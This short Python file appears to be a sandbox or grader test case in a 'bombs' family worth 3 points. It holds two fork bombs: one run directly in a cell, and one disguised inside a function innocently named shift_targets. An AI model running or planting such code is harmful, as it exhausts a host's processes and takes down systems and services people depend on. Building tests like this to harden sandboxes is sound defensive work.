"""
family = "bombs"
tries = "Forks without end, in a cell and in a judged call."
points = 3
"""

# %% own
import os

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass

# %% shift_targets
import os


def shift_targets(y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
